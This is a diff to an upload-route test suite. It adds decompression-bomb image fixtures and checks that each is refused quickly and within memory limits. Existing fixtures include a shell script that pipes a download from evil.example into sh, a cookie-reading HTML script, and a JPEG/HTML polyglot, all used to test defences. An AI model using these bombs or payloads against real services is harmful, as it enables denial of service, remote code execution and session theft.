@@ -9,6 +9,7 @@ import {
   gifClaiming,
   pngClaiming,
   pngImage,
+  sixteenBitPng,
   uploadedFiles,
 } from "../support/images.js";
 import { addCategory, addPost } from "../support/post-fixtures.js";
@@ -135,6 +136,15 @@ async function expectRefused(route: UploadRoute, file: UploadFile, status: numbe
   return reply;
 }
 
+const BOMBS = {
+  hugePng: pngClaiming(50_000, 50_000),
+  hugeGif: gifClaiming(50_000, 50_000),
+  // Under the pixel cap, but 144 MB once decoded: a GIF is decoded as RGBA.
+  heavyGif: gifClaiming(6000, 6000),
+  // Under the pixel cap, but 238 MB once decoded at 6 bytes a pixel.
+  deepPng: sixteenBitPng(6300, 6300),
+};
+
 const SCRIPT = Buffer.from("#!/bin/sh\ncurl https://evil.example/x | sh\n");
 const HTML = Buffer.from("<!doctype html><html><body><script>alert(document.cookie)</script>");
 const SVG = Buffer.from(
@@ -165,26 +175,26 @@ describe.each(ROUTES)("$name refuses", (route) => {
   });
 
   it.each([
-    { kind: "a PNG", bytes: pngClaiming(50_000, 50_000), type: "image/png" },
-    { kind: "a GIF", bytes: gifClaiming(50_000, 50_000), type: "image/gif" },
-  ])(
-    "a decompression bomb ($kind claiming 50000x50000 pixels) at once and without the memory",
-    async ({ bytes, type }) => {
-      expect(bytes.length).toBeLessThan(1100);
-      const rssBefore = process.memoryUsage().rss;
-      const started = performance.now();
-      const files = await uploadedFiles(server);
-      const state = await route.state();
-      const reply = await route.send({ bytes, filename: "bomb.png", contentType: type });
-      expect(reply.status, reply.text).toBe(400);
-      expect(reply.body).toEqual({ message: "Image dimensions are too large" });
-      // Decoding 2.5 billion pixels would take many seconds and gigabytes; the header is enough.
-      expect(performance.now() - started).toBeLessThan(1500);
-      expect(process.memoryUsage().rss - rssBefore).toBeLessThan(100 * 1024 * 1024);
-      expect(await uploadedFiles(server)).toEqual(files);
-      expect(await route.state()).toEqual(state);
-    },
-  );
+    { kind: "a PNG claiming 50000x50000 pixels", bomb: BOMBS.hugePng, type: "image/png" },
+    { kind: "a GIF claiming 50000x50000 pixels", bomb: BOMBS.hugeGif, type: "image/gif" },
+    { kind: "a 35-byte GIF claiming 6000x6000 pixels", bomb: BOMBS.heavyGif, type: "image/gif" },
+    { kind: "a 16-bit PNG of 6300x6300 pixels", bomb: BOMBS.deepPng, type: "image/png" },
+  ])("a decompression bomb ($kind) at once and without the memory", async ({ bomb, type }) => {
+    const bytes = await bomb;
+    expect(bytes.length).toBeLessThan(300_000);
+    const rssBefore = process.memoryUsage().rss;
+    const started = performance.now();
+    const files = await uploadedFiles(server);
+    const state = await route.state();
+    const reply = await route.send({ bytes, filename: "bomb.png", contentType: type });
+    expect(reply.status, reply.text).toBe(400);
+    expect(reply.body).toEqual({ message: "Image dimensions are too large" });
+    // Decoding them would take seconds and hundreds of megabytes at least; the header is enough.
+    expect(performance.now() - started).toBeLessThan(1500);
+    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(100 * 1024 * 1024);
+    expect(await uploadedFiles(server)).toEqual(files);
+    expect(await route.state()).toEqual(state);
+  });
 
   it("a JPEG header followed by HTML (no picture behind it) with 415", async () => {
     const polyglot = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]), HTML]);
